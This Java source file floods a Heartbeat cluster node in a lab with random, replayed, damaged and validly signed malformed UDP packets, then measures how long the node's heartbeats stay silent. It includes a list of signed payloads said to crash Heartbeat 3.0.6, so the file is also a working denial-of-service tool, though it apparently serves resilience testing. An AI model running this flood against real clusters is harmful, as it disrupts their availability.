import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.ClosedChannelException;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Floods one node with packets that it must drop, as fast as one thread can, from the switch of a
 * lab with {@code bcast}. First it records what the pair says; a quarter each of what it sends is
 * random bytes, recorded packets, recorded packets with damage, and packets with a right signature
 * around contents on which Heartbeat 3.0.6 dies. Then it ends: COUNT bounds it.
 *
 * <pre>
 * java Flood.java ADDRESS PORT SHA1-KEY COUNT [SEED]
 * </pre>
 *
 * It prints one line of figures; the longest silence is that of the flooded node's heartbeats.
 */
final class Flood {
    private static final int RECORDED_MIN = 60;
    private static final int LONG_PACKET = 60_000;

    private final DatagramChannel ears;
    private final DatagramChannel mouth;
    private final InetSocketAddress target;
    private final Mac mac;
    private final Random random;
    private final List<byte[]> recorded = new ArrayList<>();
    private final List<byte[]> deadly = new ArrayList<>();
    private volatile long longestSilence;
    private volatile long heartbeats;
    private volatile long lastHeard;

    private Flood(InetSocketAddress target, String key, long seed)
            throws IOException, GeneralSecurityException {
        this.target = target;
        this.random = new Random(seed);
        this.mac = Mac.getInstance("HmacSHA1");
        mac.init(new SecretKeySpec(key.getBytes(StandardCharsets.ISO_8859_1), "HmacSHA1"));
        ears = DatagramChannel.open();
        ears.setOption(StandardSocketOptions.SO_REUSEADDR, true);
        ears.bind(new InetSocketAddress(target.getPort()));
        mouth = DatagramChannel.open();
    }

    public static void main(String[] arguments) throws Exception {
        int count = Integer.parseInt(arguments[3]);
        long seed = arguments.length > 4 ? Long.parseLong(arguments[4]) : 1;
        InetAddress address = InetAddress.getByName(arguments[0]);
        InetSocketAddress target =
                new InetSocketAddress(address, Integer.parseInt(arguments[1]));
        new Flood(target, arguments[2], seed).run(count);
    }

    private void run(int count) throws IOException {
        record();
        makeDeadly();
        Thread listener = new Thread(this::listen);
        listener.setDaemon(true);
        listener.start();
        long begin = System.nanoTime();
        lastHeard = begin;
        int refused = 0;
        for (int i = 0; i < count; i++) {
            try {
                mouth.send(ByteBuffer.wrap(packet(i)), target);
            } catch (IOException full) {
                refused++;
            }
        }
        long end = System.nanoTime();
        double seconds = (end - begin) / 1e9;
        long silence = Math.max(longestSilence, end - lastHeard);
        System.out.printf(
                "sent %d packets in %.1f s (%.0f a second), %d of them refused by the system;"
                        + " heard %d heartbeats of the flooded node, longest silence %.0f ms%n",
                count, seconds, count / seconds, refused, heartbeats, silence / 1e6);
    }

    private void record() throws IOException {
        ByteBuffer buffer = ByteBuffer.allocate(65_536);
        while (recorded.size() < RECORDED_MIN) {
            recorded.add(receive(buffer));
        }
    }

    private byte[] receive(ByteBuffer buffer) throws IOException {
        InetSocketAddress from = (InetSocketAddress) ears.receive(buffer.clear());
        byte[] bytes = Arrays.copyOf(buffer.array(), buffer.position());
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        if (from.getAddress().equals(target.getAddress()) && text.contains("t=status")) {
            long now = System.nanoTime();
            longestSilence = Math.max(longestSilence, lastHeard == 0 ? 0 : now - lastHeard);
            lastHeard = now;
            heartbeats++;
        }
        return bytes;
    }

    /** What is said meanwhile is replayed, too. */
    private void listen() {
        ByteBuffer buffer = ByteBuffer.allocate(65_536);
        longestSilence = 0;
        heartbeats = 0;
        try {
            while (true) {
                byte[] bytes = receive(buffer);
                synchronized (recorded) {
                    recorded.set((int) (heartbeats % RECORDED_MIN), bytes);
                }
            }
        } catch (ClosedChannelException closed) {
            return;
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private byte[] packet(int number) {
        return switch (number % 4) {
            case 0 -> randomBytes();
            case 1 -> anyRecorded();
            case 2 -> damaged(anyRecorded());
            default -> deadly.get(random.nextInt(deadly.size()));
        };
    }

    private byte[] anyRecorded() {
        synchronized (recorded) {
            return recorded.get(random.nextInt(recorded.size()));
        }
    }

    private byte[] randomBytes() {
        byte[] bytes = new byte[random.nextInt(100) == 0 ? LONG_PACKET : random.nextInt(1, 400)];
        random.nextBytes(bytes);
        if (random.nextBoolean()) {
            byte[] mark = (random.nextBoolean() ? "###\n" : ">>>\n").getBytes();
            System.arraycopy(mark, 0, bytes, 0, Math.min(mark.length, bytes.length));
        }
        return bytes;
    }

    /** Always differs from the original: what is left of the signature cannot fit. */
    private byte[] damaged(byte[] original) {
        byte[] bytes = original.clone();
        int at = random.nextInt(Math.max(1, bytes.length - 50));
        switch (random.nextInt(4)) {
            case 0 -> bytes[at] ^= (byte) (1 << random.nextInt(8));
            case 1 -> bytes = Arrays.copyOf(bytes, at);
            case 2 -> bytes[at] = (byte) (bytes[at] == '9' ? '8' : '9');
            default -> {
                byte[] longer = new byte[bytes.length + 7];
                System.arraycopy(bytes, 0, longer, 0, at);
                System.arraycopy(bytes, at, longer, at + 7, bytes.length - at);
                bytes = longer;
            }
        }
        return bytes;
    }

    private void makeDeadly() {
        String head = "11:(0)t=status,";
        String tail = "13:(0)src=nobody,8:(0)seq=1,10:(0)hg=ffff,8:(0)ts=12,";
        for (String field :
                List.of(
                        "3:a=b,",
                        "6:0)a=bc,",
                        "6:(6)a=b,",
                        "6:(9)a=b,",
                        "6:(0)a=\0,",
                        "6:(x)a=b,",
                        "4:(0)=,",
                        "2:(0,",
                        "0:,",
                        "12:(2)a=###\n3:x,,",
                        "9:(3)a=9:b,,",
                        "99999999:(0)a=b,",
                        "-1:(0)a=b,",
                        "30:(1)_compressed_payload=" + "x".repeat(5) + ",",
                        "60000:(0)a=" + "x".repeat(59_995) + ",")) {
            deadly.add(signed("###\n" + head + field + tail + "%%%\n"));
        }
        deadly.add(signed("###\n" + "3:(0),".repeat(2_000) + "%%%\n"));
        deadly.add(signed("###\n%%%\n"));
    }

    private byte[] signed(String body) {
        byte[] bytes = body.getBytes(StandardCharsets.ISO_8859_1);
        String token = "1 " + HexFormat.of().formatHex(mac.doFinal(bytes));
        return (body + token.length() + ":" + token + ",").getBytes(StandardCharsets.ISO_8859_1);
    }
}
